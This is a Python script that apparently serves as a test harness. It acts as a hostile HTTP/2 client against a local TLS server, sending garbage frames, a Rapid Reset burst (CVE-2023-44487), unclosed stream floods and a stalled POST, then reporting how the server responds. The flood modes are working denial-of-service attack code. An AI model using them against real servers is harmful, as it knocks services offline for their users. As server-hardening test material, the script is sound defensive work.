"""A hostile HTTP/2 client for the edge's TLS listener, written against the frame layout of
RFC 9113 §4.1 with the standard library only (no h2 package is needed).

    python3 h2_abuse.py PORT garbage        the preface, then bytes that are no frame
    python3 h2_abuse.py PORT rapid-reset N  N streams, each opened and reset at once (CVE-2023-44487)
    python3 h2_abuse.py PORT streams N      N requests left open (HEADERS without END_STREAM)
    python3 h2_abuse.py PORT stall          a POST /wait whose body never comes, then a GET on
                                            the same connection once the POST is answered

Prints one JSON line: how the server ended the connection (`closed`: it closed the socket;
`goaway`: the error code of its GOAWAY, if any), the `:status` codes of the responses it sent,
and the streams it refused (RST_STREAM with REFUSED_STREAM). A socket timeout is a hang
guard: a server that neither answers nor closes ends the run with `closed: false`.
"""

import json
import socket
import ssl
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
REFUSED_STREAM, CANCEL = 0x7, 0x8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def get_headers():
    # HPACK (RFC 7541): :method GET, :scheme https, :path / from the static table (indexed),
    # :authority as a literal without indexing, so every block stands alone.
    authority = b"localhost"
    return bytes([0x82, 0x87, 0x84, 0x01, len(authority)]) + authority


def connect(port):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection(("127.0.0.1", port), timeout=60)
    sock = context.wrap_socket(raw, server_hostname="localhost")
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


def read_frames(sock, until):
    """Reads frames until the server closes, `until(summary)` is true, or the hang guard."""
    summary = {"closed": False, "goaway": None, "statuses": [], "refused": 0, "reset": 0}
    buffer = b""
    while not until(summary):
        try:
            chunk = sock.recv(65536)
        except (socket.timeout, TimeoutError):
            break
        except (ConnectionResetError, ssl.SSLError, BrokenPipeError):
            summary["closed"] = True
            break
        if not chunk:
            summary["closed"] = True
            break
        buffer += chunk
        while len(buffer) >= 9:
            length = struct.unpack(">I", b"\0" + buffer[:3])[0]
            if len(buffer) < 9 + length:
                break
            kind, flags = buffer[3], buffer[4]
            payload = buffer[9 : 9 + length]
            buffer = buffer[9 + length :]
            if kind == SETTINGS and not flags & ACK:
                sock.sendall(frame(SETTINGS, ACK, 0))
            elif kind == GOAWAY:
                summary["goaway"] = struct.unpack(">I", payload[4:8])[0]
            elif kind == RST_STREAM:
                code = struct.unpack(">I", payload[:4])[0]
                summary["refused" if code == REFUSED_STREAM else "reset"] += 1
            elif kind == HEADERS and payload[:1] and payload[0] & 0x80:
                # An indexed :status from the static table (8: 200 ... 14: 500), else a literal.
                index = payload[0] & 0x7F
                statuses = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
                summary["statuses"].append(statuses.get(index, index))
            elif kind == HEADERS:
                summary["statuses"].append("literal")
    return summary


def main():
    port, mode = int(sys.argv[1]), sys.argv[2]
    sock = connect(port)
    if mode == "garbage":
        sock.sendall(b"\xff" * 64 + b"this is no frame")
        summary = read_frames(sock, lambda s: s["closed"])
    elif mode == "rapid-reset":
        count = int(sys.argv[3])
        burst = b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 1, get_headers()) + frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", CANCEL))
            for i in range(count)
        )
        try:
            sock.sendall(burst)
        except (ConnectionResetError, BrokenPipeError, ssl.SSLError):
            pass  # the server may close before it has read the whole burst
        summary = read_frames(sock, lambda s: s["closed"])
    elif mode == "streams":
        count = int(sys.argv[3])
        sock.sendall(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, get_headers()) for i in range(count)))
        summary = read_frames(sock, lambda s: s["closed"] or s["refused"] + s["reset"] > 0 or s["goaway"] is not None)
    elif mode == "stall":
        path = b"/wait"
        post = bytes([0x83, 0x87, 0x04, len(path)]) + path + bytes([0x01, 9]) + b"localhost"
        sock.sendall(frame(HEADERS, END_HEADERS, 1, post))
        summary = read_frames(sock, lambda s: s["closed"] or len(s["statuses"]) > 0)
        sock.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 3, get_headers()))
        summary2 = read_frames(sock, lambda s: s["closed"] or len(s["statuses"]) > 0)
        summary["statuses"] += summary2["statuses"]
        summary["closed"] = summary2["closed"]
    else:
        raise SystemExit("unknown mode " + mode)
    print(json.dumps(summary))


if __name__ == "__main__":
    main()
